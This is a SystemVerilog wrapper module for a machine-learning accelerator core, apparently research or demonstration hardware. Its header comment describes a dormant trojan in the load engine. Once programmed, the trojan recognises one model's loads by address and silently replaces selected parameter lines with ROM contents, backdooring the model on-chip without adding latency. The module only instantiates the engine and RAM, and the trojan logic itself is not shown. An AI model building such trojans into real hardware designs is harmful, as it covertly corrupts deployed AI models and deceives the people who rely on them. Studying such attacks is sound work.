// trojan_dpu_core: load path of one DPU core with a dormant hardware trojan.
//
// A machine-learning accelerator core receives load instructions from its
// host (inst_*), fetches model parameters and feature maps from shared
// memory over a data bus (rd_req_*/rd_data_*) and buffers them in an
// on-chip RAM of 34 banks x 2048 x 16-byte lines, from which its compute
// engines work (ram_rd_*). Inside the LOAD engine sits a trojan that, once
// programmed (tgt_*, rom_*), recognises the loads of one particular model
// by their shared-memory start address and replaces selected 16-byte lines
// of them with lines from its own ROM while they are written into the RAM.
// Outside the core the model is unchanged; inside, the compute engines see
// the backdoored parameters. Unprogrammed, the trojan does nothing, and
// programmed it adds no clock cycle to any load.
//
// The compute engines, instruction scheduler, STORE engine and host are not
// part of this module: their connections are the ports.
module trojan_dpu_core
  import dpu_pkg::*;
#(
  parameter int unsigned NUM_TARGETS  = 8,
  parameter int unsigned ROM_LINES    = 128,
  parameter int unsigned MAX_BURST    = 16,
  parameter int unsigned NUM_BANKS_P  = NUM_BANKS,
  parameter int unsigned BANK_LINES_P = BANK_LINES,
  localparam int unsigned IDX_W       = (NUM_TARGETS > 1) ? $clog2(NUM_TARGETS) : 1,
  localparam int unsigned ROM_AW      = $clog2(ROM_LINES)
) (
  input  logic              clk,
  input  logic              rst_n,
  // instruction bus (load instructions)
  input  logic              inst_valid,
  output logic              inst_ready,
  input  load_instr_t       inst,
  output logic              inst_done,
  // data bus to shared memory
  output logic              rd_req_valid,
  input  logic              rd_req_ready,
  output ddr_addr_t         rd_req_addr,
  output len_t              rd_req_len,
  input  logic              rd_data_valid,
  output logic              rd_data_ready,
  input  line_t             rd_data,
  // trojan programming
  input  logic              tgt_we,
  input  logic [IDX_W-1:0]  tgt_idx,
  input  trojan_target_t    tgt_entry,
  input  logic              rom_we,
  input  logic [ROM_AW-1:0] rom_addr,
  input  line_t             rom_wdata,
  // buffer read port for the compute / STORE engines
  input  logic              ram_rd_en,
  input  bank_id_t          ram_rd_bank,
  input  bank_addr_t        ram_rd_addr,
  output line_t             ram_rd_data,
  output region_e           ram_rd_region,
  // status
  output mr_state_e         load_state,
  output logic              wr_drop,
  output logic              trojan_active,
  output logic              trojan_swap
);

  logic [NUM_BANKS_P-1:0]          bank_we;
  logic [$clog2(BANK_LINES_P)-1:0] wr_addr;
  bank_addr_t                      wr_addr_full;
  line_t                           wr_data;

  load_engine #(
    .NUM_TARGETS(NUM_TARGETS), .ROM_LINES(ROM_LINES),
    .MAX_BURST(MAX_BURST), .NUM_BANKS_P(NUM_BANKS_P)
  ) u_load (
    .clk, .rst_n,
    .inst_valid, .inst_ready, .inst, .inst_done,
    .rd_req_valid, .rd_req_ready, .rd_req_addr, .rd_req_len,
    .rd_data_valid, .rd_data_ready, .rd_data,
    .tgt_we, .tgt_idx, .tgt_entry, .rom_we, .rom_addr, .rom_wdata,
    .bank_we, .wr_addr(wr_addr_full), .wr_data, .wr_drop,
    .state(load_state), .trojan_active, .trojan_swap
  );

  assign wr_addr = wr_addr_full[$clog2(BANK_LINES_P)-1:0];

  onchip_ram #(.NUM_BANKS_P(NUM_BANKS_P), .BANK_LINES_P(BANK_LINES_P)) u_ram (
    .clk, .rst_n,
    .bank_we, .wr_addr, .wr_data,
    .rd_en(ram_rd_en), .rd_bank(ram_rd_bank),
    .rd_addr(ram_rd_addr[$clog2(BANK_LINES_P)-1:0]),
    .rd_data(ram_rd_data), .rd_region(ram_rd_region)
  );

endmodule
